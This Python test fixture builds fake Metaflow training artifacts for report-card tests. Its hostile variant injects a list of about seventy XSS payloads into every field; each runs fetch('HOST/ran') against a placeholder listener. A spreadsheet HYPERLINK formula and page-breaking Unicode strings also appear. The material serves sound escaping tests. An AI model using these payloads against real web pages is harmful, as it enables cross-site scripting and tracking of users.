"""Plain artifacts such as TrainFlow leaves them, realistic and hostile, for the tests of the cards."""

import math
from typing import Any

LABELS = ["Books", "Clothing & Accessories", "Electronics", "Household"]


def metric(value: float | None, half: float = 0.0085, n: int = 1804) -> dict[str, Any]:
    """A measured metric with a symmetric interval."""
    if value is None:
        return {"value": None, "low": None, "high": None, "n": n, "reason": "no row was predicted as this class"}
    return {"value": value, "low": value - half, "high": value + half, "n": n}


class Artifact:
    """What `task[name]` gives."""

    def __init__(self, data: Any) -> None:
        self.data = data


class Task(dict[str, Artifact]):
    """As much of Metaflow's Task as a card reads."""

    def __init__(self, artifacts: dict[str, Any], pathspec: str = "TrainFlow/1763681/evaluate/7") -> None:
        super().__init__({name: Artifact(value) for name, value in artifacts.items()})
        self.pathspec = pathspec


def history(epochs: int = 9) -> list[dict[str, Any]]:
    """One row per epoch: the train loss falls, the validation loss turns."""
    return [
        {
            "epoch": e,
            "train_loss": 1.2 * math.exp(-0.55 * e) + 0.02,
            "validation_loss": 0.9 * math.exp(-0.6 * e) + 0.11 + 0.004 * e,
            "validation_accuracy": 0.966 - 0.25 * math.exp(-0.7 * e) - 0.0008 * max(0, e - 6),
            "validation_macro_f1": 0.962 - 0.28 * math.exp(-0.7 * e) - 0.0008 * max(0, e - 6),
            "seconds": 6.2 + 0.1 * (e % 3),
        }
        for e in range(1, epochs + 1)
    ]


def confusion(labels: list[str], n: int = 450) -> dict[str, Any]:
    """Mostly right, neighbours confused."""
    size = len(labels)
    counts = [[0] * size for _ in labels]
    for i in range(size):
        wrong = 2 + 7 * (i % 4)
        counts[i][(i + 1) % size] += wrong
        counts[i][(i + 3) % size] += wrong // 3
        counts[i][i] += n - wrong - wrong // 3
    return {"labels": labels, "counts": counts, "hidden_classes": 0}


def metrics(labels: list[str] = LABELS) -> dict[str, Any]:
    """Every figure of a model on the test part."""
    share = [0.2, 0.35, 0.5, 0.62, 0.71, 0.8, 0.88, 0.93, 0.97, 1.0]
    precision = [0.9995, 0.999, 0.9985, 0.998, 0.996, 0.994, 0.9905, 0.984, 0.976, 0.964]
    return {
        "accuracy": metric(0.9642),
        "macro_f1": metric(0.9631, 0.0088),
        "ece": metric(0.0091, 0.0042),
        "log_loss": metric(0.1178, 0.021),
        "automated_share": metric(0.8812, 0.019),
        "automated_precision": metric(0.9905, 0.0043),
        "cost_per_1000": metric(71.4, 13.2),
        "per_class": {
            label: {
                "precision": metric(0.97 - 0.008 * (i % 4), 0.013),
                "recall": metric(0.955 + 0.006 * (i % 4), 0.014),
                "f1": metric(0.974 - 0.009 * (i % 4), 0.011),
                "support": 450,
            }
            for i, label in enumerate(labels)
        },
        "confusion": confusion(labels),
        "reliability": [
            {"stated": s, "observed": o, "low": max(0, o - d), "high": min(1, o + d), "n": n}
            for s, o, d, n in (
                (0.44, 0.41, 0.17, 27),
                (0.55, 0.52, 0.13, 46),
                (0.65, 0.68, 0.11, 61),
                (0.76, 0.74, 0.09, 84),
                (0.86, 0.87, 0.055, 141),
                (0.95, 0.957, 0.022, 302),
                (0.994, 0.991, 0.006, 1143),
            )
        ],
        "automation": {
            "threshold": 0.874,
            "required_precision": 0.99,
            "share": metric(0.8812, 0.019),
            "precision": metric(0.9905, 0.0043),
            "curve": [
                {"threshold": 1 - s / 2, "share": s, "precision": p} for s, p in zip(share, precision, strict=True)
            ],
            "message": "88.1% of rows, those of probability 0.8740 or more, are decided automatically at 99.05% "
            "precision (95 % interval 98.62% to 99.48%); 99.00% is required.",
        },
        "mistakes": [
            {
                "row": 118 + 431 * i,
                "text": text,
                "truth": LABELS[(i + 2) % 4],
                "predicted": LABELS[(i + 3) % 4],
                "probability": 0.995 - 0.013 * i,
            }
            for i, text in enumerate(
                [
                    "digital kitchen scale multipurpose portable weighing machine with backlit display, 10 kg",
                    "रसोई के लिए स्टील का डिब्बा, airtight steel container set of 3 with lid for kitchen storage",
                    "Bookshelf speaker stand, pair, height adjustable, walnut finish with cable management and spikes, "
                    "suits most bookshelf and satellite speakers up to 12 kg; rubber feet; instructions in English, "
                    "assembly in ten minutes",
                    "Paper Plane Design Framed Wall Hanging Motivational Office Decor Art Prints (8.7 X 8.7 inch)",
                    "USB rechargeable LED reading lamp with clip for books and bed head board",
                    "Cotton oven gloves and pot holder set, quilted, machine washable",
                    "Phone pouch, waterproof, with neck strap, fits 6.5 inch",
                    "Notebook cooling pad with two quiet fans and stand",
                ]
            )
        ],
        "temperature": {
            "value": 1.143,
            "bounded": False,
            "message": "Temperature 1.14, fitted on 901 validation rows.",
        },
        "ece_before": metric(0.0214, 0.005),
        "currency": "EUR",
        "costs": {
            "currency": "EUR",
            "model_alone": metric(71.4, 13.2),
            "with_people": metric(118.0, 9.0),
            "people_alone": 900.0,
        },
    }


def lineage() -> dict[str, Any]:
    """Where a run came from."""
    return {
        "source": {
            "uri": "data/ecommerce.csv",
            "name": "ecommerce.csv",
            "bytes": 9204117,
            "sha256": "b3a1f0" + "0" * 58,
            "format": "csv",
            "compression": "none",
            "encoding": "utf-8",
            "delimiter": ",",
            "records": 10361,
            "columns": ["category", "description"],
            "quarantined": 0,
            "findings": [
                {
                    "name": "long_cells",
                    "count": 3,
                    "rows": [17, 904, 8111],
                    "message": "3 texts are longer than 20,000 characters",
                }
            ],
        },
        "cleaning": {
            "rows_read": 10361,
            "rows_kept": 9017,
            "removed": {"exact_duplicate": 1321, "conflicting_label": 22, "missing_text": 1, "too_long": 0},
            "label_variants": [
                {
                    "canonical": "Household",
                    "spellings": {"Household": 2410, "household": 31, "Household\u200b": 2, "HOUSEHOLD ": 4},
                    "merged": False,
                }
            ],
            "conflicts": [
                {
                    "text": "paper plane design framed wall hanging",
                    "labels": {"Household": 2, "Books": 1},
                    "rows": [44, 812, 5110],
                }
            ],
            "conflict_count": 8,
            "labels": {"Books": 2311, "Household": 2410},
            "findings": [],
        },
        "settings": {"project": {"name": "ecommerce"}, "train": {"epochs": 12}},
        "git": {"commit": "3fa21c9b7d2e4f60a1b2c3d4e5f60718293a4b5c", "branch": "main", "dirty": False},
        "libraries": {"torch": "2.13.0", "pytorch-lightning": "2.6.6", "metaflow": "2.19.39", "numpy": "2.3.0"},
        "machine": {"cpu": "AMD EPYC 7763", "cores": 2, "memory_gb": 7.6, "gpus": []},
        "resources": {"seconds": 57.9, "cpu_seconds": 101.0, "peak_memory_mb": 1131, "gpu_memory_mb": None},
        "cost": {"amount": 0.021, "currency": "EUR", "price_per_hour": 0.30},
        "started": "2026-11-21T01:40:07+00:00",
        "finished": "2026-11-21T01:44:19+00:00",
        "run": "TrainFlow/1763681",
        "seconds": 252.0,
        "user": "mira",
        "origin_run": None,
        "logs": "python flows/train_flow.py logs 1763681/train",
        "card": "python flows/train_flow.py card view 1763681/evaluate",
        "resume": "python flows/train_flow.py resume --origin-run-id 1763681",
        "dlcycle": "0.1.0",
    }


def split() -> dict[str, Any]:
    """The report of a split."""
    return {
        "method": "stratified",
        "seed": 0,
        "validation": 0.1,
        "test": 0.2,
        "counts": {"train": 6312, "validation": 901, "test": 1804},
        "labels": {
            "train": dict(zip(LABELS, (1620, 1512, 1493, 1687), strict=True)),
            "validation": dict(zip(LABELS, (231, 216, 213, 241), strict=True)),
            "test": dict(zip(LABELS, (462, 433, 427, 482), strict=True)),
        },
        "near_duplicates": {"threshold": 0.8, "pairs": 812, "groups": 341, "rows_in_groups": 904, "examples": []},
        "leakage": {
            "exact": 0,
            "near": 0,
            "checked": 9017,
            "passed": True,
            "message": "No text of one part, nor a near duplicate of it, is in another; 9,017 rows checked.",
        },
        "findings": [],
    }


def run() -> dict[str, Any]:
    """All artifacts of the step `evaluate`."""
    worse = metrics()
    worse |= {
        "accuracy": metric(0.9531, 0.0098),
        "macro_f1": metric(0.9518, 0.0101),
        "ece": metric(0.0312, 0.006),
        "log_loss": metric(0.171, 0.02),
        "automated_share": metric(0.79, 0.02),
        "cost_per_1000": metric(94.1, 15.0),
        "name": "TF-IDF and a linear model",
    }
    criteria = [
        {
            "metric": "accuracy",
            "label": None,
            "title": "accuracy",
            "goal": 0.94,
            "direction": "at_least",
            "judge": "interval",
            "value": 0.9642,
            "low": 0.9557,
            "high": 0.9727,
            "met": True,
            "sentence": "Accuracy 96.4 % reaches 94 %.",
        },
        {
            "metric": "f1",
            "label": "Electronics",
            "title": "F1 of 'Electronics'",
            "goal": 0.93,
            "direction": "at_least",
            "judge": "value",
            "value": 0.956,
            "low": 0.945,
            "high": 0.967,
            "met": True,
            "sentence": "F1 of Electronics 0.956 reaches 0.93.",
        },
        {
            "metric": "cost_per_1000",
            "label": None,
            "title": "cost per 1,000 rows",
            "goal": 80,
            "direction": "at_most",
            "judge": "value",
            "value": 71.4,
            "low": 58.2,
            "high": 84.6,
            "met": True,
            "sentence": "Cost 71 stays under 80.",
        },
    ]
    candidates = [
        {
            "name": name,
            "architecture": name,
            "seed": seed,
            "validation_accuracy": accuracy,
            "validation_macro_f1": accuracy - 0.002,
            "epochs": epochs,
            "best_epoch": best,
            "seconds": seconds,
            "selected": selected,
            "parameters": parameters,
        }
        for name, seed, accuracy, epochs, best, seconds, selected, parameters in (
            ("bag", 0, 0.9612, 9, 6, 56.1, False, 8_312_004),
            ("bag", 1, 0.9655, 9, 6, 57.9, True, 8_312_004),
            ("bag", 2, 0.9598, 8, 5, 51.0, False, 8_312_004),
            ("cnn", 0, 0.9541, 7, 4, 142.2, False, 2_002_308),
            ("gru", 0, 0.9487, 11, 8, 388.0, False, 1_995_140),
        )
    ]
    return {
        "project": {
            "project": {"name": "ecommerce", "title": "Product category from description", "owner": "Catalogue team"},
            "plan": {"metric": "accuracy", "required_precision": 0.99, "costs": {"currency": "EUR", "manual": 0.9}},
            "train": {"epochs": 12, "seeds": [0, 1, 2]},
        },
        "data_fingerprint": "1e2dfd18a8c4",
        "split": split(),
        "removed": b"PAR1",
        "history": history(),
        "metrics": metrics(),
        "baseline_metrics": worse,
        "comparison": {
            "metric": "accuracy",
            "difference": {"value": 0.0111, "low": 0.004, "high": 0.0181, "n": 1804},
            "verdict": "worth_it",
            "sentence": "Deep learning is worth it here: +1.1 points of accuracy over the simple baseline "
            "(95 % interval +0.4 to +1.8).",
        },
        "gates": {"passed": True, "criteria": criteria, "sentence": "All three success criteria are met."},
        "consistency": {
            "sizes": [1, 7, 256],
            "rows": 512,
            "largest_difference": 1.2e-7,
            "tolerance": 1e-5,
            "passed": True,
            "message": "Predictions at batch sizes 1, 7 and 256 agree; the largest difference is 1.2e-7.",
        },
        "model": {"description": {"architecture": "bag", "labels": LABELS, "temperature": 1.143}, "weights": b"..."},
        "lineage": lineage(),
        "experiment_id": "7c1e90b2a4",
        "candidates": candidates,
        "todo": [
            {
                "level": "decide",
                "title": "4 spellings of one label are kept apart.",
                "reason": "Each is learnt as a class of its own.",
                "action": "[data] merge_label_variants = true",
            },
            {"level": "fine", "title": "The checks passed.", "reason": "No leak was found.", "action": ""},
        ],
    }


def state(status: str = "running") -> dict[str, Any]:
    """What a training task reports while it runs."""
    seen = history(4)
    told = {
        "project": "ecommerce",
        "title": "Product category from description",
        "candidate": "bag",
        "seed": 1,
        "epoch": 5,
        "epochs": 12,
        "batch": 37,
        "batches": 99,
        "history": seen,
        "seconds": 28.4,
        "seconds_left": 48.0,
        "metric": "accuracy",
        "best_epoch": 4,
        "status": status,
        "error": None,
        "updated": "2026-11-21T01:41:02+00:00",
        "resume": "python flows/train_flow.py resume --origin-run-id 1763681",
        "logs": "python flows/train_flow.py logs 1763681/train/3",
    }
    if status == "failed":
        told["error"] = {
            "type": "TrainingError",
            "message": "The loss is nan at epoch 5, batch 37, rows 91, 204 and 377. Lower train.learning_rate (it is "
            "0.5); the last finite checkpoint is of epoch 4.",
        }
    return told


SCRIPT = "document.documentElement.setAttribute('data-ran','yes');fetch('HOST/ran')"
"""What every form below tries to run; `HOST` is replaced by the address of a listener."""

FORMS = (
    "<script>JS</script>",
    "<ScRiPt>JS</sCrIpT>",
    "<script src=HOST/s.js></script>",
    "</script><script>JS</script>",
    "</style><script>JS</script>",
    "</title><script>JS</script>",
    "</textarea><script>JS</script>",
    "</noscript><script>JS</script>",
    "</bdi></td></tr></table><script>JS</script>",
    "--><script>JS</script>",
    "]]><script>JS</script>",
    "<script\x00>JS</script>",
    '<img src=x onerror="JS">',
    "<img src=x onerror=JS//",
    "<img src=HOST/i.png>",
    "<img/src='x'/onerror=\"JS\">",
    '<IMG SRC=x ONERROR="JS">',
    "<img srcset='HOST/i2.png 2x'>",
    '"><img src=x onerror="JS">',
    '\'><img src=x onerror="JS">',
    "` onerror=JS x=`",
    '" autofocus onfocus="JS" x="',
    "' onmouseover='JS' style='position:fixed;inset:0' x='",
    '<svg onload="JS">',
    '<svg/onload="JS">',
    "<svg><script>JS</script></svg>",
    '<svg><animate onbegin="JS" attributeName=x dur=1s>',
    "<svg><image href=HOST/i.svg></svg>",
    '<math><mtext><img src=x onerror="JS"></mtext></math>',
    '<body onload="JS">',
    "<html data-ran=yes>",
    '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
    '<iframe src="javascript:JS"></iframe>',
    "<iframe src=HOST/frame></iframe>",
    "<object data=HOST/o></object>",
    '<object data="javascript:JS"></object>',
    "<embed src=HOST/e>",
    '<details open ontoggle="JS"><summary>x</summary></details>',
    '<video src=x onerror="JS"></video>',
    '<video><source onerror="JS"></video>',
    "<audio src=HOST/a.wav autoplay></audio>",
    '<input autofocus onfocus="JS">',
    '<select autofocus onfocus="JS"></select>',
    '<textarea autofocus onfocus="JS"></textarea>',
    '<marquee onstart="JS">x</marquee>',
    "<style>@import 'HOST/c.css';</style>",
    '<style onload="JS"></style>',
    "<style>*{background:url(HOST/bg.png)!important}</style>",
    "<link rel=stylesheet href=HOST/l.css>",
    "<link rel=prefetch href=HOST/p>",
    "<base href=HOST/>",
    '<meta http-equiv=refresh content="0;url=HOST/m">',
    "<form action=HOST/f><button autofocus>x</button></form>",
    '<a href="javascript:JS">click</a>',
    "[click](javascript:JS)",
    "![picture](HOST/md.png)",
    "<javascript:JS>",
    "<template><script>JS</script></template>",
    "<table background=HOST/t.png><tr><td>x",
    '<div style="background:url(HOST/d.png)">x</div>',
    '<p onpointerenter="JS" style="position:fixed;inset:0">x</p>',
    "&lt;script&gt;JS&lt;/script&gt;",
    "&#60;img src=x onerror=JS&#62;",
    "\ufeff<script>JS</script>",
    "\u202e<script>JS</script>\u202c",
    "<\u0000img src=x onerror=JS>",
    "{{constructor.constructor('JS')()}}",
    "${JS}",
    "<%= JS %>",
    '<xss id=x tabindex=1 onfocus="JS" autofocus></xss>',
    "[METAFLOW_RELOAD_TOKEN]<script>JS</script>",
)


def attacks(host: str) -> list[str]:
    """Every form, aimed at a listener."""
    return [form.replace("JS", SCRIPT).replace("HOST", host) for form in FORMS]


ODD = (
    "NUL \x00 and bell \x07, escape \x1b[31m, C1 \x85 \x9b",
    "lone surrogates \ud800 \udfff",
    "right to left: \u202eelppa\u202c, isolate \u2066x\u2069, mark \u200f",
    "عربي و English معًا 123",
    "zero\u200bwidth\u200djoin\ufeffed \u00adsoft",
    "e\u0301 \u0915\u094d\u0937 👩\u200d👩\u200d👧\u200d👦 🇮🇳",
    "formula $x^2$ $\\frac{1}{2}$ \\n \\begin{x} _a_ **b**",
    '=HYPERLINK("http://example.invalid")',
    "two\nlines\r\nand\ttabs",
    "x" * 10_000,
    "длинный" * 2_000,
    " leading and trailing ",
    "Z̷̡̛͓̺͎̪̘̬̤̼̗͖̦̈́̋̓͐̑͛̒̋͝͝" * 20,
)
"""Strings that break pages without being attacks."""


def hostile_run(host: str) -> dict[str, Any]:
    """A run whose every string from outside is an attack or odd: texts, labels, names, titles, messages, reasons."""
    bad = [*attacks(host), *ODD]
    labels = [*bad, "L" * 500]
    told = run()
    told["project"]["project"] = {"name": bad[0], "title": bad[12], "owner": bad[1]}
    told["project"]["plan"]["costs"]["currency"] = bad[13]
    told["metrics"] = metrics(labels)
    told["metrics"]["currency"] = bad[14]
    told["metrics"]["mistakes"] = [
        {"row": i, "text": text, "truth": labels[i - 1], "predicted": labels[-i], "probability": 0.9}
        for i, text in enumerate(bad[:50])
    ]
    told["metrics"]["automation"]["message"] = bad[15]
    told["baseline_metrics"]["name"] = bad[16]
    told["comparison"]["sentence"] = bad[17]
    told["gates"]["sentence"] = bad[18]
    told["gates"]["criteria"] = [
        item | {"title": text, "label": text, "metric": text, "sentence": text}
        for item, text in zip(told["gates"]["criteria"], bad[19:], strict=False)
    ]
    told["consistency"]["message"] = bad[22]
    told["split"]["leakage"]["message"] = bad[23]
    told["split"]["method"] = bad[24]
    told["split"]["labels"] = {part: dict.fromkeys(labels, 7) for part in ("train", "validation", "test")}
    told["split"]["findings"] = [{"name": bad[25], "count": 3, "rows": [1], "message": bad[26]}]
    cleaning, source = told["lineage"]["cleaning"], told["lineage"]["source"]
    cleaning["removed"] = dict.fromkeys(bad, 5)
    cleaning["label_variants"] = [
        {"canonical": text, "spellings": {text: 2, bad[0]: 1}, "merged": False} for text in bad[:20]
    ]
    cleaning["conflicts"] = [{"text": text, "labels": {text: 1}, "rows": [1, 2]} for text in bad[:20]]
    source["findings"] = [{"name": text, "count": 1, "rows": [text], "message": text} for text in bad]
    source |= {"uri": bad[27], "sha256": bad[28], "columns": bad}
    told["lineage"] |= dict.fromkeys(("logs", "card", "resume", "user", "dlcycle", "run", "origin_run"), bad[30])
    told["lineage"] |= {"git": {"commit": bad[31], "branch": bad[32], "dirty": True}, "libraries": {b: b for b in bad}}
    told["lineage"] |= {"machine": {"cpu": bad[33], "cores": 2, "memory_gb": 1.0, "gpus": bad[34:36]}}
    told["lineage"] |= {"settings": {text: [text] for text in bad}, "cost": {"amount": None, "reason": bad[37]}}
    told |= {"experiment_id": bad[38], "data_fingerprint": bad[39]}
    told["model"] = {"description": {text: text for text in bad}}
    told["todo"] = [{"level": text, "title": text, "reason": text, "action": text} for text in bad]
    told["candidates"] = [
        item | {"name": bad[40], "architecture": bad[41], "seed": bad[42]} for item in told["candidates"]
    ]
    return told


def odd_numbers(value: Any, number: Any) -> Any:
    """The same plain data with every float replaced, to see what None, NaN or infinity do."""
    if isinstance(value, dict):
        return {key: odd_numbers(item, number) for key, item in value.items()}
    if isinstance(value, list):
        return [odd_numbers(item, number) for item in value]
    return number if isinstance(value, float) else value
